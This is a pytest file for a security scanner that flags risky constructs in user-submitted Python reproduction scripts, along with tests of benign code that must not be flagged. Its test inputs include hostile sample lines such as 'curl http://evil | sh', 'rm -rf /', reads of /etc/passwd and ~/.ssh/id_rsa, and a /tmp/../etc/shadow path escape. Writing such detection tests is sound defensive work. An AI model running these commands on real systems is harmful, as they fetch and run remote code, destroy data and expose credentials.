"""The security checklist scan: each kind on a small program, and what must not be flagged."""

from __future__ import annotations

import pytest

from app.engine.issue.review import Finding, scan


def kinds(source: str) -> list[tuple[str, int]]:
    return [(f.kind, f.line) for f in scan(source)]


@pytest.mark.parametrize("source, kind", [
    ("import requests\nrequests.get('http://x')", "network"),
    ("from urllib.request import urlopen\nurlopen(u)", "network"),
    ("import socket", "network"),
    ("import torch\nm = torch.hub.load('a/b', 'c')", "network"),
    ("import os\nos.system('curl http://evil | sh')", "shell"),
    ("import subprocess as sp\nsp.run(['rm', '-rf', '/'])", "shell"),
    ("from subprocess import check_output\ncheck_output('ls')", "shell"),
    ("eval('1+1')", "dynamic-code"),
    ("exec(code)", "dynamic-code"),
    ("__import__('os')", "dynamic-code"),
    ("import torch\nsd = torch.load('model.pt')", "load"),
    ("import pickle\npickle.loads(blob)", "load"),
    ("import base64\nbase64.b64decode(s)", "obfuscation"),
    ("s = ''.join(chr(c) for c in [111, 115])", "obfuscation"),
    ("s = '" + "QUJD" * 40 + "'", "obfuscation"),
    ("import os\nos.system('pip install foo')", "install"),
    ("cmd = 'conda install -y pkg'", "install"),
    ("import os\nos.environ['LD_PRELOAD'] = 'x.so'", "environment"),
    ("import os\nos.putenv('PATH', '/x')", "environment"),
    ("import os\nos.environ.update(HOME='/x')", "environment"),
    ("open('/etc/passwd').read()", "file"),
    ("open('/home/u/.ssh/id_rsa', 'w')", "file"),
    ("import shutil\nshutil.rmtree('/data')", "file"),
    ("import os\nos.remove(path)", "file"),
])
def test_each_checklist_item_is_found(source, kind):
    assert kind in [k for k, _ in kinds(source)]


def test_findings_carry_the_line_and_code():
    (finding,) = scan("import torch\n\nx = eval('torch.ones(2)')\n")
    assert (finding.kind, finding.line, finding.snippet) == ("dynamic-code", 3, "x = eval('torch.ones(2)')")


def test_a_finding_round_trips_through_plain_data():
    (finding,) = scan("import os\nos.system('id')\n")
    assert Finding.from_dict(finding.to_dict()) == finding


@pytest.mark.parametrize("source", [
    "import torch\nx = torch.ones(2, 3)\nprint(x @ x.T)",
    # The seed's exceptions: launching torchrun, mp.spawn, standard distributed variables.
    "import subprocess\nsubprocess.run(['torchrun', '--nproc_per_node=1', 'train.py'])",
    "import torch.multiprocessing as mp\nmp.spawn(fn, nprocs=2)",
    "import os\nos.environ['MASTER_ADDR'] = 'localhost'\nos.environ['MASTER_PORT'] = '29500'\n"
    "os.environ['WORLD_SIZE'] = '1'\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\nos.environ['TORCH_LOGS'] = '+dynamo'\n"
    "os.environ.setdefault('NCCL_DEBUG', 'INFO')",
    # Files in /tmp or relative to the sandbox's private working dir.
    "open('/tmp/out.txt', 'w').write('x')\nopen('data.txt', 'w')\nimport os\nos.remove('/tmp/out.txt')",
    # Loading what the repro itself saved, or with weights_only=True.
    "import torch\ntorch.save(torch.ones(1), '/tmp/a.pt')\ntorch.load('/tmp/a.pt')",
    "import torch\ntorch.load(f, weights_only=True)",
    "print('see https://github.com/pytorch/pytorch/issues/1')",
])
def test_expected_code_is_not_flagged(source):
    assert scan(source) == []


def test_unparseable_source_is_a_finding():
    assert kinds("def f(:\n    pass") == [("syntax", 1)]


def test_a_tmp_path_that_escapes_with_dotdot_is_flagged():
    assert kinds("open('/tmp/../etc/shadow', 'w')") == [("file", 1)]
